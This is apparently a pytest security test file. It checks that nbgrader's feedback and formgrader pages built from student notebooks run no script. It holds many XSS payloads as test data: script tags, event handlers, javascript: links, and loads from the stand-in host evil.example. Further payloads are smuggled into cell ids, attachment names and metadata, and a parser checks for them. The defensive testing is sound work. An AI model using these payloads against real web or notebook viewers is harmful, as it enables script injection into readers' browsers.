"""What a student's notebook shows to who reads it (36 of the list of attacks)."""

import json
import re
from html.parser import HTMLParser

import pytest
from extended_course import own_cell
from hostile import Attack, attack
from nbconvert.filters.markdown_mistune import markdown2html_mistune

# Each would call `owned()` in a reader's browser, or send something there.
HTML = [
    "<script>owned()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=owned()>",
    "<svg onload=owned()><animate onbegin=owned() attributeName=x></svg>",
    "<iframe srcdoc='<script>owned()</script>'></iframe>",
    "<a href='javascript:owned()'>click</a>",
    "<a href='jAvAsCrIpT&colon;owned()'>click</a>",
    "<div style='background:url(//evil.example/owned)' onmouseover=owned()>over</div>",
    "<style>body{background:url(//evil.example/owned)}</style>",
    "<link rel=stylesheet href=//evil.example/owned.css>",
    "<form action=//evil.example/owned><input name=x autofocus onfocus=owned()></form>",
    "<object data='data:text/html,<script>owned()</script>'></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned()></style></mglyph></table>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=javascript:owned()'>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
]
MARKDOWN = [
    *HTML,
    "[click](javascript:owned())",
    "[click](<javascript:owned()>)",
    "[click]( data:text/html,<script>owned()</script>)",
    "[ref]\n\n[ref]: javascript:owned()",
    "![picture](https://evil.example/owned.png)",
    "![a][b]\n\n[b]: https://evil.example/owned.png",
    "![gone](attachment:gone.png) ![gone][c]\n\n[c]: attachment:gone.png",
    "<javascript:owned()>",
    "$\\href{javascript:owned()}{x}$ $$\\require{html}\\style{x:url(//evil.example/owned)}{y}$$",
    "`` ` ``<img src=x onerror=owned()>",
    "    <script>owned()</script>",
    "```\n</code></pre><script>owned()</script>\n```",
]


def shows(data, **more):
    return f"display({data!r}, raw=True, **{more!r})"


def with_markdown(notebook):
    cells = notebook["cells"]
    for n, text in enumerate(MARKDOWN):
        cells.append(own_cell(text, f"text-{n}", "markdown"))
    cells.append(own_cell("<script>owned()</script>", "raw", "raw"))
    for cell in cells:
        if cell["id"] == "why":
            cell["source"] = "\n\n".join(MARKDOWN)
    return notebook


def with_attachments(notebook):
    cell = own_cell("![x](attachment:x.svg) ![y](attachment:y.png)", "pictures", "markdown")
    cell["attachments"] = {
        "x.svg": {"image/svg+xml": HTML[3]},
        "y.png": {"image/png": "PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+"},
        "z.png\"><script>owned()</script>": {"image/png": "iVBORw0KGgo="},
    }  # fmt: skip
    notebook["cells"].append(cell)
    notebook["metadata"] = {
        "title": "<script>owned()</script>",
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": HTML}},
        "kernelspec": {"name": "x\"><script>owned()</script>", "display_name": HTML[0]},
    }  # fmt: skip
    return notebook


def with_ids(notebook):
    for n, cell in enumerate(notebook["cells"]):
        cell["id"] = f'{n}"><script>owned()</script>'
    return notebook


SHOWS = [
    *(shows({"text/html": html}) for html in HTML),
    *(shows({"text/markdown": text}) for text in MARKDOWN),
    *(shows({"text/latex": text}) for text in MARKDOWN[-6:]),
    shows({"image/svg+xml": HTML[3]}),
    shows({"application/javascript": "owned()"}),
    shows({"image/png": '"><script>owned()</script>'}),
    shows({"text/html": HTML[0], 'x"><script>owned()</script>': HTML[0]}),
    shows({"application/vnd.jupyter.widget-view+json": {"model_id": HTML[0]}}),
    shows({"application/vnd.vega.v5+json": {"url": "//evil.example/owned"}}),
    "print('<script>owned()</script>\\x1b[31m<img src=x onerror=owned()>\\x1b[0m')",
    "import sys; print('<script>owned()</script>', file=sys.stderr)",
    "raise type('<script>owned()</script>', (Exception,), {})('<img src=x onerror=owned()>')",
]
ATTACKS = SHOWING = [
    Attack(36, "outputs", make=lambda n: n | {
        "cells": n["cells"] + [own_cell(s, f"shows-{i}") for i, s in enumerate(SHOWS)]}),
    Attack(36, "Markdown", make=with_markdown),
    Attack(36, "attachments and metadata", make=with_attachments),
    Attack(36, "ids of cells", make=with_ids),
    attack(
        *(36, "what a call returns and raises"),
        code_double=f"def double(x):\n    return {HTML[0]!r}",
        code_fit_slope=f"def fit_slope(x, y):\n    raise ValueError({HTML[2]!r})",
        double="failed",
        fit_slope="raised",
    ),
    Attack(36, f"a name {HTML[2].replace('/', '')}"),
]  # fmt: skip


class Acting(HTMLParser):
    """Finds what would act in a page: scripts, handlers, links that are programs, loads."""

    def __init__(self):
        super().__init__()
        self.found, self.script = [], False

    def handle_starttag(self, tag, attrs):
        values = {name: value or "" for name, value in attrs}
        self.script = tag == "script"
        for name, value in values.items():
            plain = re.sub(r"[\s\x00-\x20]", "", value).lower()
            # The page's own template and libraries say nothing of this.
            if "owned" in value and (name.startswith("on") or name in ("style", "srcdoc", "data")):
                self.found.append((tag, name, value))
            if plain.startswith(("javascript:", "vbscript:")) and "owned" in plain:
                self.found.append((tag, name, value))
            # A plain link that a reader may follow does nothing by itself.
            loads = name in ("src", "href", "action", "data") and tag != "a"
            if loads and "evil.example" in value:
                self.found.append((tag, name, value))

    def handle_data(self, data):
        if self.script and "owned()" in data:
            self.found.append(("script", "", data[:100]))

    def handle_endtag(self, tag):
        self.script = False


def acting(page):
    parser = Acting()
    parser.feed(page)
    return parser.found


def test_the_search_finds_what_acts():
    """The test's own eyes: it sees a script, a handler and a link that is a program."""
    for html in (HTML[0], HTML[2], HTML[5]):
        assert acting(f"<html><body>{html}</body></html>")


@pytest.fixture(scope="module")
def pages(graded):
    return graded.nbgraders_pages(map(str, SHOWING))


@pytest.mark.parametrize("attack", SHOWING, ids=str)
def test_nothing_acts_in_the_feedback_page(graded, pages, attack):
    """nbgrader's own page, made from our graded notebook, holds nothing that acts."""
    graded.check(attack)

    assert acting(pages[str(attack)]) == []


@pytest.mark.parametrize("attack", SHOWING, ids=str)
def test_nothing_that_acts_is_stored(graded, attack):
    """formgrader renders the graded notebook unsanitised: so nothing of it may act."""
    path = graded.places.out / "autograded" / str(attack) / "tiny" / "tiny.ipynb"
    notebook = json.loads(path.read_text(encoding="utf-8"))
    rendered = []
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            rendered.append(markdown2html_mistune(cell["source"]))
        for output in cell.get("outputs", []):
            data = output.get("data", {})
            assert set(data) <= {"text/plain", "text/html", "text/markdown", "text/latex",
                                 "image/png", "image/jpeg"}  # fmt: skip
            rendered.append(data.get("text/html", ""))
            rendered.append(markdown2html_mistune(data.get("text/markdown", "")))
    assert [found for text in rendered for found in acting(text)] == []
    assert set(notebook["metadata"]) == {"kernelspec", "language_info", "autograde"}
    assert all(re.fullmatch(r"[\w-]{1,64}", cell["id"]) for cell in notebook["cells"])


def test_the_neighbours_have_their_scores(graded):
    """Reading them costs nobody a point."""
    graded.check_neighbours()


def test_nothing_outside_has_changed(graded):
    """Nothing was written but graded notebooks."""
    graded.check_world()
